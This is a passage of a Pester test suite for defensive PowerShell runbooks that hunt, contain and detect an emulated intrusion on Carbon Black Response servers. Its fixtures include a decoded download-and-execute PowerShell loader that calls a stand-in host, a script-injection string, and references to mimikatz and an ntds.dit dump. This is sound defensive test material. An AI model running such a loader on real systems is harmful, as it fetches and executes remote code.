# Runs every runbook of examples/Runbooks against emulators, as its user would, and asserts on what it finds, changes and leaves alone.
# 'eu', the default, tells the story of an intrusion; 'us' is a fleet. Every example of the help runs too, in a copy of the folder.

BeforeDiscovery {
    $root = (Get-Item "$PSScriptRoot/../..").FullName
    $readme = Get-Content "$root/examples/README.md"
    $runbooks = @(
        Get-ChildItem "$root/examples/Runbooks" -Recurse -Filter *.ps1 | Sort-Object FullName | ForEach-Object {
            @{ Name = $_.BaseName; Area = $_.Directory.Name; Path = $_.FullName }
        }
    )
    $examples = foreach ($runbook in $runbooks) {
        $number = 0
        $text = Get-Content -LiteralPath $runbook.Path -Raw
        foreach ($match in [regex]::Matches($text, '(?ms)^\.EXAMPLE\r?\n(.+?)(?=^\.[A-Z]|^#>)')) {
            @{ Name = $runbook.Name; Area = $runbook.Area; Number = ++$number; Code = $match.Groups[1].Value.Trim() }
        }
    }
    $analyzer = Get-Module -ListAvailable PSScriptAnalyzer | Select-Object -First 1
}

BeforeAll {
    Import-Module "$PSScriptRoot/TestServer.psm1" -Force
    Import-TestModule
    $root = (Get-Item "$PSScriptRoot/../..").FullName
    $folder = "$root/examples/Runbooks"
    $eu = Start-TestServer -ArgumentList '--check-in 1'
    $us = Start-TestServer -ArgumentList '--check-in 1', '--scenario fleet', '--sensors 20', '--processes 400', '--events 10'
    Connect-TestServer $us -With @{ Name = 'us' }
    Connect-TestServer $eu -With @{ Name = 'eu' }
    $ConfirmPreference = 'None'

    function Initialize-Server {
        # Both servers as at the start, and nothing asked of them yet.
        foreach ($one in $eu, $us) {
            $null = Invoke-TestControl reset -Method POST -Server $one
            Clear-TestRequest -Server $one
        }
    }

    function Get-Change {
        # What was asked of the servers that may have changed something: searches are sent by POST as well.
        foreach ($one in $eu, $us) {
            Get-TestRequest -Server $one | Where-Object { $_.method -ne 'GET' -and $_.path -notmatch '^/api/v\d/(process|binary|alert)$' }
        }
    }
}

AfterAll {
    Stop-TestServer
}

Describe 'The runbook' {
    It '<Area>/<Name> has help that says what it does, what it needs and how it is called' -ForEach $runbooks {
        $help = Get-Help $Path -Full
        $help.Synopsis | Should -Match '^[A-Z].{20,}\.$'
        ($help.Description | Out-String).Trim().Length | Should -BeGreaterThan 80
        ($help.alertSet | Out-String) | Should -Match 'Rights: '
        @($help.Examples.Example).Count | Should -BeGreaterThan 0
        @($help.Examples.Example).code | Should -BeLike "*$Name.ps1*"
        foreach ($parameter in (Get-Command $Path).Parameters.Values | Where-Object { -not ($_.Attributes -is [System.Management.Automation.ParameterAttribute]) -and $_.Name -notin [System.Management.Automation.Cmdlet]::CommonParameters + 'WhatIf', 'Confirm' }) {
            ($help.parameters.parameter | Where-Object name -EQ $parameter.Name).description.Text | Should -Not -BeNullOrEmpty -Because "-$($parameter.Name) needs a text"
        }
    }

    It '<Area>/<Name> is named and written as the others' -ForEach $runbooks {
        $text = Get-Content -LiteralPath $Path -Raw
        ($Name -split '-')[0] | Should -BeIn (Get-Verb).Verb
        $text | Should -Not -Match '[^\x00-\x7F]' -Because 'Windows PowerShell reads other letters rightly only behind a mark'
        $text | Should -Match '(?m)^#Requires -Version 5\.1$'
        $text | Should -Match '(?m)^\[CmdletBinding\('
        ($text -replace '(?ms)^\.EXAMPLE.*?(?=^\.[A-Z]|^#>)' -replace '(?s)#>.*') -split '\n' | Where-Object Length -GT 110 | Should -BeNullOrEmpty -Because 'Get-Help breaks longer lines inside words'
        @($text -split '\n').Count | Should -BeLessThan 100 -Because 'a runbook is a page'
        (Get-Command $Path).Parameters.Keys | Should -Not -Contain 'Token'
        if ($text -match '\bSession \$Session\b') {
            $text | Should -Match '\$Session = \(Get-CbSession -Default\)'
        }
    }

    It '<Area>/<Name> keeps to the syntax of Windows PowerShell 5.1' -ForEach $runbooks -Skip:(-not $analyzer) {
        Import-Module PSScriptAnalyzer
        $settings = @{ IncludeRules = 'PSUseCompatibleSyntax'; Rules = @{ PSUseCompatibleSyntax = @{ Enable = $true; TargetVersions = '5.1', '7.4' } } }
        Invoke-ScriptAnalyzer -Path $Path -Settings $settings | ForEach-Object Message | Should -BeNullOrEmpty
    }

    It '<Area>/<Name> stands in the table' -ForEach $runbooks {
        Get-Content "$root/examples/README.md" | Where-Object { $_ -like "*(Runbooks/$Area/$Name.ps1)*" } | Should -HaveCount 1
    }
}

Describe 'The table' {
    It 'names every job once it is covered, and says why the others are not' {
        $rows = Get-Content "$root/examples/README.md" | Where-Object { $_ -match '^\| [\d, to]+ \|' }
        $jobs = foreach ($row in $rows) {
            $cell = ($row -split '\|')[1].Trim()
            if ($cell -match '^(\d+) to (\d+)$') { [int]$Matches[1]..[int]$Matches[2] } else { $cell -split ', ' | ForEach-Object { [int]$_ } }
        }
        $jobs | Sort-Object -Unique | Should -Be (1..45)
        $covered = $rows | Where-Object { $_ -like '*.ps1)*' } | ForEach-Object { ($_ -split '\|')[1].Trim() -split ', ' | ForEach-Object { [int]$_ } }
        $covered | Sort-Object -Unique | Should -Be (@(1, 2) + 4..19 + 26..45)
    }

    It 'names scripts that are there' {
        foreach ($link in [regex]::Matches((Get-Content "$root/examples/README.md" -Raw), '\]\((?<path>[^)#]+)\)')) {
            Join-Path "$root/examples" $link.Groups['path'].Value | Should -Exist
        }
    }
}

Describe 'An example' {
    BeforeAll {
        $copy = Join-Path $TestDrive 'Runbooks'
        Copy-Item $folder $copy -Recurse
        $lists = @{
            'iocs.txt'       = 'cdn-telemetry-update[.]example', 'D61DA841DAA5C820AA60EE6C98B49FC5', '# the end'
            'iocs.csv'       = 'Report,Indicator,Score', 'inc-42,cdn-telemetry-update.example,90', 'inc-42,203.0.113.66,80'
            'hosts.txt'      = 'fin-ws-01', 'sql01'
            'hosts.csv'      = 'ComputerName', 'fin-ws-01', 'nobody'
            'hunts.csv'      = 'Name,Query', 'whoami,process_name:whoami.exe', 'net,process_name:net.exe'
            'bad.csv'        = 'Md5,Reason', 'd61da841daa5c820aa60ee6c98b49fc5,INC-42'
            'rules.csv'      = 'Name,OSType,Group', 'sql*,,Domain Controllers', '*,linux,Default Group'
            'detections.csv' = 'Name,Index,Query,Action', 'Whoami,Process,process_name:whoami.exe,Alert'
            'users.csv'      = 'UserName,FirstName,Team', 'alice,Alice,Help Desk'
        }
        foreach ($area in Get-ChildItem $copy -Directory) {
            foreach ($name in $lists.Keys) { Set-Content (Join-Path $area.FullName $name) $lists[$name] }
            $null = New-Item -ItemType Directory (Join-Path $area.FullName rules)
            Set-Content (Join-Path $area.FullName rules/one.json) '{ "Name": "One", "Query": "process_name:one.exe" }'
        }
    }

    It '<Number> of <Area>/<Name> runs' -ForEach $examples {
        Initialize-Server
        $code = $Code -replace '^PS> ' -replace 'Read-Host -AsSecureString', "ConvertTo-TestSecret 'Winter-2026!'" -replace '\\\\share\\', "$TestDrive/share-" -replace 'D:\\cases\\', "$TestDrive/cases-" -replace '-Path samples', "-Path $TestDrive" -replace "-Group 'Databases'|'Databases'", "'Servers'" -replace "Group = 'Linux'", "Group = 'Servers'"
        Push-Location (Join-Path $copy $Area)
        try { $run = Invoke-TestScript { . ([scriptblock]::Create($code)) } }
        finally { Pop-Location }
        $run.Errors | Where-Object { $_.FullyQualifiedErrorId -notmatch '^(CbObjectNotFound|CbInvalidQuery),' } | Should -BeNullOrEmpty
    }
}

Describe 'Hunting' {
    BeforeAll {
        Initialize-Server
        Push-Location "$folder/Hunting"
    }

    AfterAll { Pop-Location }

    It 'Find-Indicator says which indicator was found where, whatever its writing' {
        $list = 'cdn-telemetry-update[.]example', 'hxxps://203.0.113[.]66/a?b', ' D61DA841DAA5C820AA60EE6C98B49FC5', '# a note', '', '2001:db8:ffff::15', 'nobody.example', 'two words'
        $run = Invoke-TestScript { $list | ./Find-Indicator.ps1 }
        $run.Errors.TargetObject | Should -Be 'two words'
        $hits = $run.Output | Group-Object Indicator -AsHashTable -AsString
        $hits.Keys | Sort-Object | Should -Be '2001:db8:ffff::15', '203.0.113.66', 'cdn-telemetry-update.example', 'd61da841daa5c820aa60ee6c98b49fc5'
        $hits['d61da841daa5c820aa60ee6c98b49fc5'].ProcessName | Should -Be adobearmhelper.exe
        $hits['cdn-telemetry-update.example'].HostName | Sort-Object | Should -Be fin-ws-01, fin-ws-01, sql01
        $hits['203.0.113.66'].Kind | Should -Be IPAddress, IPAddress, IPAddress
    }

    It 'Find-Indicator asks for a clean list in few requests' {
        Clear-TestRequest
        1..120 | ForEach-Object { "host-$_.nobody.example" } | ./Find-Indicator.ps1 | Should -BeNullOrEmpty
        Get-TestRequest /api/v1/process | Should -HaveCount 3
    }

    It 'Find-Indicator finds what has been running for long, by what it did lately' {
        $old = Get-CbProcess -ProcessName svchost.exe -GroupBy id -Sort 'start asc' -First 1
        (./Find-Indicator.ps1 dc01.contoso.test -After 1h).Start | Sort-Object | Select-Object -First 1 | Should -BeLessThan ([datetime]::UtcNow.AddHours(-1))
        $old.Start | Should -BeLessThan ([datetime]::UtcNow.AddDays(-7))
    }

    It 'Find-Indicator takes the server that -Session says' {
        (./Find-Indicator.ps1 203.0.113.66 -Session us).Server | Should -Not -Contain ([uri]$eu.url).Authority
    }

    It 'Invoke-HuntPack runs all hunts of a file, and goes on after a broken one' {
        $pack = Join-Path $TestDrive pack.json
        Set-Content $pack '{ "Broken": { "query": ["(a"] }, "By maker": { "internal_name": ["procdump"], "process_name": ["wmic.exe"] } }'
        $run = Invoke-TestScript { ./Invoke-HuntPack.ps1 RemoteTools.json, $pack }
        $run.Errors | Should -HaveCount 1
        $run.Output | ForEach-Object { "$($_.Hunt): $($_.ProcessName)" } | Sort-Object | Should -Be @(
            'By maker: pd64.exe', 'By maker: wmic.exe', 'Remote execution: psexec64.exe', 'Remote execution: psexesvc.exe', 'Remote processes by WMI: wmic.exe')
        $both = ./Invoke-HuntPack.ps1 $pack -Session eu, us -ErrorAction SilentlyContinue
        @($both.Server | Sort-Object -Unique).Count | Should -BeGreaterOrEqual 1
    }

    It 'Get-AttackTree climbs to where the attack began, once for each tree' {
        $nodes = ./Get-AttackTree.ps1 'process_name:whoami.exe'
        ($nodes | Where-Object Depth -EQ 0).ProcessName | Sort-Object | Should -Be cmd.exe, outlook.exe
        $nodes.ProcessName | Should -Contain psexec64.exe
        $nodes.ProcessName | Should -Not -Contain explorer.exe
    }

    It 'Get-ProcessTimeline writes a row for each event, and one for the start' {
        $lure = Get-CbProcess -ParentName winword.exe -ProcessName powershell.exe -GroupBy id
        $rows = ./Get-ProcessTimeline.ps1 'parent_name:winword.exe process_name:powershell.exe'
        $rows | Should -HaveCount (1 + @($lure | Get-CbProcessEvent -Segment All).Count)
        $rows[0].timestamp_desc | Should -Be ProcessStart
        $rows[0].datetime | Should -Be $lure.Start.ToString('yyyy-MM-ddTHH:mm:ss.fffZ')
        $rows.message | Should -Contain 'Create c:\programdata\f.zip'
        ./Get-ProcessTimeline.ps1 'parent_name:winword.exe process_name:powershell.exe' -Type NetConn | ForEach-Object timestamp_desc | Select-Object -Unique | Should -Be ProcessStart, NetConn
    }

    It 'Measure-Connection shows the beacon, and how regular it is' {
        $beacon = ./Measure-Connection.ps1 'start:-24h username:contoso*' -MinCount 10
        $beacon.ProcessName | Should -Be adobearmhelper.exe
        $beacon.Domain | Should -Be cdn-telemetry-update.example
        $beacon.Interval | Should -Be ([timespan]::FromMinutes(5))
        $beacon.Regularity | Should -Be 1
        $beacon.Last | Should -BeGreaterThan $beacon.First
        (./Measure-Connection.ps1 'process_name:net.exe').Regularity | Select-Object -Unique | Should -BeNullOrEmpty
    }

    It 'Find-SubnetConnection writes only connections to the network' {
        $all = ./Find-SubnetConnection.ps1 203.0.113.0/24
        $all.RemoteIP.IPAddressToString | Select-Object -Unique | Should -Be 203.0.113.66
        $all.HostName | Sort-Object -Unique | Should -Be fin-ws-01, sql01
        (./Find-SubnetConnection.ps1 203.0.113.64/30).Count | Should -Be $all.Count
        ./Find-SubnetConnection.ps1 203.0.113.68/30 | Should -BeNullOrEmpty
        ./Find-SubnetConnection.ps1 10.20.3.1 | ForEach-Object { "$($_.RemoteIP)" } | Select-Object -Unique | Should -Be 10.20.3.1
    }

    It 'Get-ProcessWrite lists files and registry values, filtered by path' {
        $rows = ./Get-ProcessWrite.ps1 reg.exe, powershell.exe
        ($rows | Where-Object ProcessName -EQ reg.exe).Path | Should -Be '\registry\machine\system\controlset001\services\carbonblack\start'
        ($rows | Where-Object Type -EQ FileMod).Path | Should -Contain 'c:\programdata\f.zip'
        ./Get-ProcessWrite.ps1 reg.exe, powershell.exe -Filter *\services\*, *.zip | ForEach-Object { "$($_.Type)" } | Sort-Object -Unique | Should -Be FileMod, RegMod
    }

    It 'Find-CommandLine matches, and keeps the named groups' {
        $found = ./Find-CommandLine.ps1 '\\\\(?<server>[\w-]+)\\(?<share>[\w-]+\$)' 'process_name:NET.EXE'
        $found.ProcessName | Should -Be net.exe
        $found.Match.server | Should -Be fs01
        $found.Match.share | Should -Be 'finance$'
        ./Find-CommandLine.ps1 '^WHOAMI /all$' | Should -BeOfType CbResponse.Process
    }

    It 'Find-EncodedCommand decodes the loader' {
        $found = ./Find-EncodedCommand.ps1
        $found.HostName | Should -Be fin-ws-01
        $found.DecodedCommand | Should -Be "IEX (New-Object Net.WebClient).DownloadString('https://cdn-telemetry-update.example/a')"
    }

    It 'Find-RareValue counts, and gives a query that finds the same' {
        $rare = ./Find-RareValue.ps1 parent_name 'process_name:powershell.exe'
        $rare.Name | Should -Be cmd.exe, explorer.exe, winword.exe
        $rare | ForEach-Object { @(Get-CbProcess $_.Query -GroupBy id).Count } | Should -Be 1, 1, 1
        $path = ./Find-RareValue.ps1 path_full 'process_name:pd64.exe'
        (Get-CbProcess $path.Query -GroupBy id).ProcessName | Should -Be pd64.exe
        ./Find-RareValue.ps1 process_name 'process_name:svchost.exe' | Should -BeNullOrEmpty
    }

    It 'Find-NewBinary narrows new programs to unsigned ones that talk' {
        $new = ./Find-NewBinary.ps1 -After 24h
        $new.Name | Should -Contain AdobeARMHelper.exe
        $new.Name | Should -Not -Contain LSASS.EXE
        $new.Name | Should -Not -Contain AMSI.DLL -Because 'that is a library'
        ($new | Where-Object Name -EQ WHOAMI.EXE).NetworkedProcesses | Should -Be 0
        (./Find-NewBinary.ps1 -After 24h -Unsigned -Networked).Name | Sort-Object | Should -Be '/usr/bin/curl', 'AdobeARMHelper.exe'
    }

    It 'Get-Logon shows where the service account of the intruder was' {
        $rows = ./Get-Logon.ps1
        $rows.UserName | Should -Not -Contain SYSTEM
        $stolen = $rows | Where-Object UserName -EQ 'CONTOSO\svc-backup'
        $stolen.HostName | Should -Be DC01
        $stolen.Processes | Should -Be @(Get-CbProcess -UserName 'CONTOSO\svc-backup' -GroupBy id).Count
        $stolen.Last | Should -Be ((Get-CbProcess -UserName 'CONTOSO\svc-backup' -GroupBy id).Start | Sort-Object | Select-Object -Last 1)
        (Get-CbSensor dc01 | ./Get-Logon.ps1 -IncludeSystem).UserName | Should -Contain SYSTEM
    }

    It 'Get-UsbDevice shows the stick once, with its serial number' {
        $stick = ./Get-UsbDevice.ps1
        $stick.HostName, $stick.Vendor, $stick.Product, $stick.Serial, $stick.Seen | Should -Be hr-ws-07, sandisk, ultra, 4c530001230415115174, 2
        $stick.Last - $stick.First | Should -Be ([timespan]::FromMinutes(115))
        (./Get-UsbDevice.ps1 -After 2h).Seen | Should -Be 1
    }

    It 'Find-Autorun shows what the intruder left, and not what Windows does' {
        $rows = ./Find-Autorun.ps1
        $rows | ForEach-Object { "$($_.Kind) $($_.Name)" } | Sort-Object | Should -Be 'RunKey adobearmhelper', 'Service carbonblack', 'Task adobe arm helper'
        (./Find-Autorun.ps1 -All).ProcessName | Should -Contain svchost.exe
    }

    It 'Invoke-ScheduledHunt tells each hit once, and nothing is remembered with -WhatIf' {
        $state = Join-Path $TestDrive state.csv
        $hunts = @{ Name = 'whoami'; Query = 'process_name:whoami.exe' }, @{ Name = 'net'; Query = 'process_name:net1.exe' } | ForEach-Object { [pscustomobject]$_ }
        $hunts | ./Invoke-ScheduledHunt.ps1 -StatePath $state -WhatIf | Should -HaveCount 5
        $state | Should -Not -Exist
        $first = $hunts[0] | ./Invoke-ScheduledHunt.ps1 -StatePath $state
        $first.HostName | Sort-Object | Should -Be fin-ws-01, sql01
        ($hunts | ./Invoke-ScheduledHunt.ps1 -StatePath $state).Hunt | Should -Be net, net, net
        $hunts | ./Invoke-ScheduledHunt.ps1 -StatePath $state | Should -BeNullOrEmpty
        Import-Csv $state | Should -HaveCount 5
    }

    It 'Invoke-ScheduledHunt forgets what is old, and runs watchlists' {
        $state = Join-Path $TestDrive old.csv
        'Key,Seen', "x|y|z,$([datetime]::UtcNow.AddDays(-40).ToString('o'))" | Set-Content $state
        $new = Get-CbWatchlist -Id 12 | ./Invoke-ScheduledHunt.ps1 -StatePath $state
        $new.Hunt | Should -Be 'PowerShell with encoded command'
        (Import-Csv $state).Key | Should -BeLike '*|PowerShell with encoded command|*'
    }

    It 'Export-HuntReport writes a page with a table for each hunt, and encodes what came from hosts' {
        $page = Join-Path $TestDrive report.html
        $rows = ./Invoke-HuntPack.ps1 RemoteTools.json
        $rows += [pscustomobject]@{ Hunt = '<b>'; Start = $null; HostName = 'h'; CommandLine = '<script>alert(1)</script>' }
        $rows | ./Export-HuntReport.ps1 -Path $page -Title 'A & B' -WhatIf
        $page | Should -Not -Exist
        ($rows | ./Export-HuntReport.ps1 -Path $page -Title 'A & B').FullName | Should -Be (Get-Item $page).FullName
        $html = Get-Content $page -Raw -Encoding UTF8
        [regex]::Matches($html, '<h2>').Count | Should -Be 3
        $html | Should -BeLike '*<title>A &amp; B</title>*<h2>Remote execution</h2><p>2 processes on 2 hosts</p>*psexesvc.exe*'
        $html | Should -Not -BeLike '*<script*'
    }

    It 'Find-FileChange shows who changed what' {
        $rows = ./Find-FileChange.ps1 '*\ntds.dit', '/var/www/*' -Except rsync
        $rows.Path | Should -Be 'c:\windows\temp\n\active directory\ntds.dit'
        $rows.HostName, $rows.ProcessName, $rows.UserName | Should -Be dc01, ntdsutil.exe, 'CONTOSO\svc-backup'
        $rows.Changes | Should -Be 'Create, FirstWrite, LastWrite'
        (./Find-FileChange.ps1 '/var/www/*').ProcessName | Select-Object -Unique | Should -Be rsync
    }
}

Describe 'Containment' {
    BeforeAll { Push-Location "$folder/Containment" }

    AfterAll { Pop-Location }

    BeforeEach { Initialize-Server }

    It 'Start-HostIsolation isolates, notes the case and flushes' {
        Get-CbSensor fin-ws-02 | Set-CbSensor -Notes 'before'
        $run = Invoke-TestScript { ./Start-HostIsolation.ps1 fin-ws-02, nobody -Case INC-42 }
        $run.Errors.TargetObject | Should -Be nobody
        $run.Output.ComputerName | Should -Be FIN-WS-02
        $now = Get-CbSensor fin-ws-02
        $now.IsolationState | Should -Be Isolated
        $now.Notes | Should -BeLike "before`nINC-42: isolated 20*Z"
        (Get-Change | ForEach-Object { "$($_.body)" }) -match 'event_log_flush_time": *"' | Should -HaveCount 1
    }

    It 'Start-HostIsolation notes the case of a host that does not answer, and says that it does not' {
        $run = Invoke-TestScript { ./Start-HostIsolation.ps1 dev-ws-12 -Case INC-42 -TimeoutSec 1 }
        $run.Errors.FullyQualifiedErrorId | Should -BeLike 'CbWaitTimeout,*'
        $run.Output | Should -BeNullOrEmpty
        (Get-CbSensor dev-ws-12).IsolationState | Should -Be IsolationPending
        (Get-CbSensor dev-ws-12).Notes | Should -BeLike 'INC-42: *'
    }

    It 'Stop-HostIsolation keeps a host isolated whose alerts are open' {
        Set-CbSensorIsolation fin-ws-01 -State Isolated -Wait
        $failure = Get-TestError { ./Stop-HostIsolation.ps1 fin-ws-01 }
        $failure.Text | Should -BeLike 'FIN-WS-01 stays isolated: 4 alerts are open, the worst *Invoice lure*'
        (Get-CbSensor fin-ws-01).IsolationState | Should -Be Isolated
        (./Stop-HostIsolation.ps1 fin-ws-01 -Force).IsolationState | Should -Be NotIsolated
    }

    It 'Stop-HostIsolation releases a host without open alerts' {
        Set-CbSensorIsolation dc01 -State Isolated -Wait
        (Get-CbSensor -Isolated | ./Stop-HostIsolation.ps1).IsolationState | Should -Be NotIsolated
    }

    It 'Start-MassIsolation has a row for each name of the list' {
        $rows = 'Name', 'hr-ws-07', 'web01', 'nobody', 'dev-ws-12', 'HR-WS-07' | ConvertFrom-Csv | ./Start-MassIsolation.ps1 -TimeoutSec 3 -WarningAction SilentlyContinue
        $rows | Sort-Object Name | ForEach-Object { "$($_.Name) $($_.Outcome)" } | Should -Be 'DEV-WS-12 WaitTimeout', 'HR-WS-07 Isolated', 'nobody ObjectNotFound', 'web01 NotSupported'
        ($rows | Where-Object Name -EQ web01).Reason | Should -BeLike '*cannot isolate*'
        (Get-CbSensor -Isolated).ComputerName | Sort-Object | Should -Be DEV-WS-12, HR-WS-07
    }

    It 'Start-MassIsolation has rows where no name is known' {
        ('nobody', 'noone' | ./Start-MassIsolation.ps1).Outcome | Should -Be ObjectNotFound, ObjectNotFound
    }

    It 'Import-BannedHash has a row for each hash, and bans what it can' {
        $new = '00112233445566778899aabbccddeeff'
        $rows = 'Md5,Reason', "$new,INC-42", '0911657be7411b6ec1961f3377deaac7,again', 'rubbish,x' | ConvertFrom-Csv | ./Import-BannedHash.ps1
        $rows.Outcome | Should -Be Banned, BannedBefore, InvalidId
        $rows[1].Detail | Should -BeLike '*credential theft*'
        (Get-CbBannedHash $new).Reason | Should -Be INC-42
        Get-CbBannedHash | Should -HaveCount 3
    }

    It 'Save-Sample saves archives and a manifest, which tells what could not be had' {
        $case = Join-Path $TestDrive case
        $rows = ./Save-Sample.ps1 'digsig_result:"Invalid Signature" or md5:0911657BE7411B6EC1961F3377DEAAC7' $case
        $rows.FileName | Should -Be AdobeARMHelper.exe, mimikatz.exe
        $rows[0].SeenAs | Should -BeLike 'c:\users\*\adobearmhelper.exe'
        Join-Path $case $rows[0].Archive | Should -Exist
        $rows[1].Archive | Should -BeNullOrEmpty
        $rows[1].Problem | Should -BeLike '*no such object*'
        $manifest = Import-Csv (Join-Path $case manifest.csv)
        $manifest.Md5 | Should -Be $rows.Md5
        $manifest[0].Sha256 | Should -Be (Get-CbBinary -Md5 $rows[0].Md5).Sha256
    }
}

Describe 'Sensors' {
    BeforeAll { Push-Location "$folder/Sensors" }

    AfterAll { Pop-Location }

    BeforeEach { Initialize-Server }

    It 'Get-StaleSensor lists who is silent, on all servers' {
        $stale = ./Get-StaleSensor.ps1 -For 2d
        $stale.ComputerName, $stale.Group, $stale.SilentDays, $stale.QueuedEventLogBytes | Should -Be DEV-WS-12, 'Default Group', 3, 22717
        ./Get-StaleSensor.ps1 -For 30d | Should -BeNullOrEmpty
        @(./Get-StaleSensor.ps1 -For 1h -Session eu, us | Select-Object -ExpandProperty Server | Sort-Object -Unique).Count | Should -Be 2
    }

    It 'Get-SensorInventory has a flat row for each sensor of each server' {
        $rows = ./Get-SensorInventory.ps1 -Session eu, us
        $rows | Should -HaveCount 32
        $dc = $rows | Where-Object ComputerName -EQ DC01
        $dc.IPAddress, $dc.MacAddress, $dc.Group, $dc.Site | Should -Be 10.20.3.1, 005056A10009, 'Domain Controllers', Wien
        ($rows | ConvertTo-Csv -NoTypeInformation) -match 'System\.' | Should -BeNullOrEmpty
    }

    It 'Find-DuplicateSensor finds the older sensor of a name, if it is silent' {
        ./Find-DuplicateSensor.ps1 | Should -BeNullOrEmpty
        $null = Invoke-TestControl sensors/6 -Method POST -Body @{ name = 'fin-ws-01' } -Server $eu
        $null = Invoke-TestControl sensors/7 -Method POST -Body @{ name = 'SQL01' } -Server $eu
        $old = ./Find-DuplicateSensor.ps1
        $old.Id | Should -Be 6
        ./Find-DuplicateSensor.ps1 -InactiveFor 10d | Should -BeNullOrEmpty
        $old | Uninstall-CbSensor
        (Get-CbSensor -Id 6).IsUninstallRequested | Should -BeTrue
        (Get-CbSensor -Id 1).IsUninstallRequested | Should -Not -BeTrue
    }

    It 'Restart-UnhealthySensor restarts the sensor that is not well' {
        $row = ./Restart-UnhealthySensor.ps1
        $row.ComputerName, $row.HealthMessage | Should -Be web01, 'Elevated memory usage'
        (Get-Change).path | Should -Be /api/v1/sensor/11
        (Get-Change).body | Should -BeLike '*restart_queued*true*'
        ./Restart-UnhealthySensor.ps1 -Group 'Domain Controllers' | Should -BeNullOrEmpty
    }

    It 'Get-SensorBacklog sorts by what waits' {
        $row = ./Get-SensorBacklog.ps1
        $row.ComputerName, $row.BacklogBytes, $row.Share | Should -Be DEV-WS-12, 22717, 1
        ./Get-SensorBacklog.ps1 -MinBytes 1MB | Should -BeNullOrEmpty
        $fleet = @(./Get-SensorBacklog.ps1 -Session us)
        ($fleet | Measure-Object Share -Sum).Sum | Should -BeGreaterThan 0.98
    }

    It 'Move-Sensor follows the first rule that fits' {
        $rules = 'Name,OSType,Group', 'sql*,,Domain Controllers', 'dc*,,Domain Controllers', '*,linux,Default Group', 'web*,,Servers' | ConvertFrom-Csv
        ($rules | ./Move-Sensor.ps1).ComputerName | Should -Be SQL01, web01
        (Get-CbSensor sql01).Group.Name | Should -Be 'Domain Controllers'
        (Get-CbSensor web01).Group.Name | Should -Be 'Default Group'
        (Get-CbSensor fs01).Group.Name | Should -Be Servers
        $rules | ./Move-Sensor.ps1 | Should -BeNullOrEmpty
    }

    It 'Compare-SensorGroup has a row for each setting that differs' {
        $rows = ./Compare-SensorGroup.ps1 'Default Group' 'Domain*', Servers
        $rows | Where-Object Group -EQ 'Domain Controllers' | ForEach-Object { "$($_.Setting) $($_.Value) $($_.Reference)" } | Should -Be 'AlertCriticality 5 3', 'FilterKnownDlls False True'
        ($rows | Where-Object Group -EQ Servers).Setting | Should -Contain IsolationExclusions
        ./Compare-SensorGroup.ps1 Servers Servers | Should -BeNullOrEmpty
    }

    It 'Set-GroupSetting changes what differs, and tells what it was' {
        $rows = ./Set-GroupSetting.ps1 @{ AlertCriticality = 5; CollectsNetConns = $false } -Except Arbeits*
        $rows | ForEach-Object { "$($_.Group) $($_.Setting) $($_.Before) $($_.After)" } | Should -Be @(
            'Default Group AlertCriticality 3 5', 'Default Group CollectsNetConns True False', 'Servers AlertCriticality 4 5', 'Servers CollectsNetConns True False',
            'Domain Controllers CollectsNetConns True False')
        (Get-CbSensorGroup).CollectsNetConns | Should -Be $false, $true, $false, $false
        ./Set-GroupSetting.ps1 @{ AlertCriticality = 5; CollectsNetConns = $false } -Except Arbeits* | Should -BeNullOrEmpty
    }

    It 'Save-GroupInstaller saves an installer of each group, with its hash' {
        $share = Join-Path $TestDrive share
        $rows = ./Save-GroupInstaller.ps1 $share -Type WindowsMsi, Linux -Group Servers, 'Domain*'
        $rows | ForEach-Object { "$($_.Group) $($_.Type)" } | Should -Be 'Servers WindowsMsi', 'Servers Linux', 'Domain Controllers WindowsMsi', 'Domain Controllers Linux'
        foreach ($row in Import-Csv (Join-Path $share installers.csv)) {
            (Get-FileHash (Join-Path $share $row.Name)).Hash | Should -Be $row.Sha256
        }
    }
}

Describe 'Detection' {
    BeforeAll { Push-Location "$folder/Detection" }

    AfterAll { Pop-Location }

    BeforeEach { Initialize-Server }

    It 'Get-WatchlistDefinition has what a file needs to make the watchlists again' {
        $rows = ./Get-WatchlistDefinition.ps1
        $rows | Should -HaveCount 10
        $one = $rows | Where-Object Name -EQ 'PowerShell with encoded command'
        $one.Query, $one.Action, $one.Index, $one.IsEnabled, $one.StoredQuery | Should -Be 'process_name:powershell.exe cmdline:enc', 'Alert;Email', Process, $true, ''
        ($rows | Where-Object StoredQuery).Name | Should -Be 'Recent changes of the day', 'Shells of finance'
    }

    It 'Set-WatchlistDefinition takes the watchlists of one server to another, with filters and actions, by way of a file' {
        $file = Join-Path $TestDrive watchlists.csv
        ./Get-WatchlistDefinition.ps1 'PowerShell*', 'Shells*', 'Unsigned*' | Export-Csv $file -NoTypeInformation -Encoding UTF8
        (Import-Csv $file | ./Set-WatchlistDefinition.ps1 -Session us).Outcome | Should -Be Created, Created, Created
        (Get-CbWatchlist Shells* -Session us).SearchQuery | Should -BeLike '*cb.fq.hostname=fin-ws-01*'
        (Get-CbWatchlist Unsigned* -Session us).IsEnabled | Should -BeFalse
        (Get-CbWatchlistAction PowerShell* -Session us | Where-Object IsEnabled).Type | Should -Be Alert, Email
        Clear-TestRequest -Server $us
        (Import-Csv $file | ./Set-WatchlistDefinition.ps1 -Session us).Outcome | Should -Be Unchanged, Unchanged, Unchanged
        Get-Change | Should -BeNullOrEmpty
    }

    It 'Set-WatchlistDefinition changes what differs, and goes on after a broken query' {
        $rows = '[{ "Name": "Net view", "Query": "process_name:net.exe cmdline:view2", "Action": "Alert", "IsEnabled": false },
            { "Name": "Broken", "Query": "(a" }, { "Name": "Unsigned programs", "Query": "process_name:a.exe", "Index": "Process" }, { "Name": "New", "Query": "process_name:x.exe", "Action": "Syslog" }]' | ConvertFrom-Json | ForEach-Object { $_ } | ./Set-WatchlistDefinition.ps1
        $rows.Outcome | Should -Be 'Changed: Enabled, Query, Alert', Failed, Failed, Created
        $rows[2].Detail | Should -BeLike '*the index Binary*'
        $rows[1].Detail | Should -Not -BeNullOrEmpty
        (Get-CbWatchlist 'Net view').Query | Should -Be 'process_name:net.exe cmdline:view2'
        (Get-CbWatchlist 'Net view').IsEnabled | Should -BeFalse
        (Get-CbWatchlistAction 'Net view' -Type Alert).IsEnabled | Should -BeTrue
        (Get-CbWatchlistAction New -Type Syslog).IsEnabled | Should -BeTrue
        (Get-CbWatchlist New).Query | Should -Be process_name:x.exe
    }

    It 'Compare-Watchlist shows what a server lacks, has more, or has otherwise' {
        ./Get-WatchlistDefinition.ps1 'Net view', 'Unsigned*' | ./Set-WatchlistDefinition.ps1 -Session us | Out-Null
